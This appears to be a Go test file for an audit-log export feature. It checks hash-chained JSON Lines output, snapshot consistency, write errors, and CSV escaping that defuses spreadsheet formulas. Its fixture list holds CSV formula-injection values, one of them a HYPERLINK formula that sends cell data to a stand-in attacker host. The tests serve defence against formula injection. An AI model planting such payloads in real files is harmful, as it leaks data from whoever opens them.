package audit

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
)

// hostile holds values a spreadsheet would misread or run, in every kind of text field.
var hostile = []string{
	`=HYPERLINK("http://evil.test/?"&A1,"click")`, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=tab", "\r=cr",
	"'already quoted", `comma, "quotes" and` + "\nnew\r\nlines", "plain",
}

func hostileEntries() []Entry {
	var out []Entry
	for i, h := range hostile {
		params, _ := JSON(map[string]any{"note": h, "n": i})
		out = append(out, Entry{At: base.Add(time.Duration(i) * time.Minute), Actor: Actor{Subject: h, Email: h, Name: h, Groups: []string{h, "sre"}},
			UserAgent: h, Action: ActionAccessDenied, Target: Target{Cluster: "prod", Group: h, Queues: []string{h}},
			Reason: h, Parameters: params, Outcome: Denied, Error: h})
	}
	return out
}

// readJSONL checks every line of a JSON Lines export offline, as an auditor would: the
// bytes of "entry" hash to "hash", and each entry names the one before it. It returns the
// entries' seqs and the chain head line.
func readJSONL(t *testing.T, b []byte) ([]int64, Head) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	var got []int64
	prev := Head{}
	for _, line := range lines[:len(lines)-1] {
		prefix := `{"hash":"`
		if !strings.HasPrefix(line, prefix) || !strings.HasSuffix(line, "}") {
			t.Fatalf("line %.80s", line)
		}
		hash := line[len(prefix) : len(prefix)+64]
		canonical := strings.TrimSuffix(strings.TrimPrefix(line[len(prefix)+64:], `","entry":`), "}")
		if sum := sha256.Sum256([]byte(canonical)); hex.EncodeToString(sum[:]) != hash {
			t.Fatalf("entry bytes do not hash to %s: %s", hash, canonical)
		}
		var e struct {
			Seq      int64  `json:"seq"`
			PrevHash string `json:"prev_hash"`
		}
		if err := json.Unmarshal([]byte(canonical), &e); err != nil {
			t.Fatal(err)
		}
		if prev.Seq != 0 && e.Seq == prev.Seq+1 && e.PrevHash != prev.Hash {
			t.Fatalf("entry %d does not follow entry %d", e.Seq, prev.Seq)
		}
		prev = Head{Seq: e.Seq, Hash: hash}
		got = append(got, e.Seq)
	}
	var last struct {
		ChainHead struct {
			Seq  int64  `json:"seq"`
			Hash string `json:"hash"`
		} `json:"chain_head"`
	}
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil || last.ChainHead.Hash == "" {
		t.Fatalf("last line %q: %v", lines[len(lines)-1], err)
	}
	return got, Head{Seq: last.ChainHead.Seq, Hash: last.ChainHead.Hash}
}

func TestExportJSONL(t *testing.T) {
	pool, _ := open(t)
	seedReports(t, pool)
	for _, tt := range []struct {
		name string
		f    Filter
		want []int64
	}{
		{"everything, oldest first", Filter{}, []int64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}},
		{"filtered as listings are", Filter{Action: "reset.", Cluster: "prod"}, []int64{3, 4, 5, 9}},
		{"nothing but the head", Filter{Cluster: "nowhere"}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			out, err := Export(t.Context(), pool, tt.f, JSONL, &b)
			if err != nil {
				t.Fatal(err)
			}
			got, head := readJSONL(t, b.Bytes())
			stored, err := ReadHead(t.Context(), pool)
			if err != nil || !slices.Equal(got, tt.want) || head != stored || out.Head != stored || out.Entries != int64(len(tt.want)) {
				t.Fatalf("got %v head %v (%+v), want %v head %v: %v", got, head, out, tt.want, stored, err)
			}
		})
	}
}

func TestExportCSV(t *testing.T) {
	pool, _ := open(t)
	add(t, pool, hostileEntries()...)
	var b bytes.Buffer
	if _, err := Export(t.Context(), pool, Filter{}, CSV, &b); err != nil {
		t.Fatal(err)
	}
	// Raw: no cell starts with a formula character, wherever it sits in a line.
	r := csv.NewReader(bytes.NewReader(b.Bytes()))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], CSVColumns) || len(records) != len(hostile)+2 {
		t.Fatalf("%d records, header %v", len(records), records[0])
	}
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", CSVColumns[i], cell)
			}
		}
	}
	// The file holds values byte for byte, carriage returns included; encoding/csv's reader
	// (unlike the file) turns "\r\n" inside a value into "\n", so the rows read back are
	// compared with that done to the stored values too.
	if !bytes.Contains(b.Bytes(), []byte("new\r\nlines")) {
		t.Error("a value's CRLF was not written as it is")
	}
	crlf := strings.NewReplacer("\r\n", "\n")
	l, err := List(t.Context(), pool, Filter{}, Page{})
	if err != nil {
		t.Fatal(err)
	}
	slices.Reverse(l.Entries)
	for i, e := range l.Entries {
		rec := records[i+1]
		for j := range rec {
			rec[j] = UnneutraliseCell(rec[j])
		}
		if rec[0] != strconv.FormatInt(e.Seq, 10) || rec[3] != crlf.Replace(e.Actor.Subject) || rec[17] != crlf.Replace(e.Reason) ||
			rec[14] != crlf.Replace(e.Target.Group) || rec[18] != string(e.Parameters) || rec[24] != e.Hash || rec[23] != e.PrevHash {
			t.Errorf("row %d: %q\nentry %+v", i+1, rec, e)
		}
		// Every field is there: the row rebuilds the entry's hash.
		if strings.Contains(e.Reason, "\r\n") {
			// Lists are JSON in their cell, where a CR is escaped and survives.
			e.Actor.Subject, e.Actor.Email, e.Actor.Name = rec[3], rec[5], rec[6]
			e.UserAgent, e.Target.Group, e.Reason, e.Error = rec[10], rec[14], rec[17], rec[22]
			if e.Hash, err = HashOf(e); err != nil {
				t.Fatal(err)
			}
		}
		if h, err := HashOf(fromCSV(t, rec)); err != nil || h != e.Hash {
			t.Errorf("row %d does not rebuild its hash: %v", i+1, err)
		}
	}
	head, _ := ReadHead(t.Context(), pool)
	last := records[len(records)-1]
	if last[0] != ChainHeadLabel || last[1] != strconv.FormatInt(head.Seq, 10) || last[2] != head.Hash || len(last) != len(CSVColumns) {
		t.Fatalf("chain head row %q, head %+v", last, head)
	}
}

// fromCSV rebuilds an entry from an unneutralised CSV row, as an offline verifier would.
func fromCSV(t *testing.T, r []string) Entry {
	t.Helper()
	seq, _ := strconv.ParseInt(r[0], 10, 64)
	at, err := time.Parse(TimeLayout, r[2])
	if err != nil {
		t.Fatal(err)
	}
	var groups, queues []string
	if err := json.Unmarshal([]byte(r[7]), &groups); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(r[16]), &queues); err != nil {
		t.Fatal(err)
	}
	doc := func(s string) json.RawMessage {
		if s == "" {
			return nil
		}
		return json.RawMessage(s)
	}
	return Entry{Seq: seq, ID: r[1], At: at, Actor: Actor{Subject: r[3], Issuer: r[4], Email: r[5], Name: r[6], Groups: groups},
		Session: r[8], SourceIP: r[9], UserAgent: r[10], RequestID: r[11], Action: Action(r[12]),
		Target: Target{Cluster: r[13], Group: r[14], Topic: r[15], Queues: queues}, Reason: r[17],
		Parameters: doc(r[18]), Before: doc(r[19]), After: doc(r[20]), Outcome: Outcome(r[21]), Error: r[22], PrevHash: r[23]}
}

func TestNeutraliseCellRoundTrips(t *testing.T) {
	for _, s := range append(hostile, "", "'", "''=", "a=b", "-") {
		n := NeutraliseCell(s)
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			t.Errorf("%q written as %q", s, n)
		}
		if UnneutraliseCell(n) != s {
			t.Errorf("%q comes back as %q", s, UnneutraliseCell(n))
		}
	}
}

// appendOnWrite appends an entry the first time the export writes, while its snapshot is
// open: the export must not see it, and its head must not move.
type appendOnWrite struct {
	t    *testing.T
	pool *pgxpool.Pool
	done bool
	bytes.Buffer
}

func (w *appendOnWrite) Write(p []byte) (int, error) {
	if !w.done {
		w.done = true
		add(w.t, w.pool, entry(99))
	}
	return w.Buffer.Write(p)
}

func TestExportReadsOneSnapshot(t *testing.T) {
	pool, _ := open(t)
	appendN(t, pool, 2*flushEvery+5) // flushed twice while rows are still coming
	before, err := ReadHead(t.Context(), pool)
	if err != nil {
		t.Fatal(err)
	}
	w := &appendOnWrite{t: t, pool: pool}
	out, err := Export(t.Context(), pool, Filter{}, JSONL, w)
	if err != nil {
		t.Fatal(err)
	}
	got, head := readJSONL(t, w.Bytes())
	after, _ := ReadHead(t.Context(), pool)
	if !w.done || head != before || out.Head != before || int64(len(got)) != before.Seq || after.Seq != before.Seq+1 {
		t.Fatalf("exported %d entries with head %+v; head before %+v, after %+v", len(got), head, before, after)
	}
}

func TestExportStopsOnWriteErrors(t *testing.T) {
	pool, _ := open(t)
	appendN(t, pool, 3)
	_, err := Export(t.Context(), pool, Filter{}, CSV, failingWriter{})
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("export to a failing writer: %v", err)
	}
	if _, err := Export(t.Context(), pool, Filter{}, "xml", io.Discard); err == nil {
		t.Fatal("unknown format accepted")
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, fmt.Errorf("disk full") }
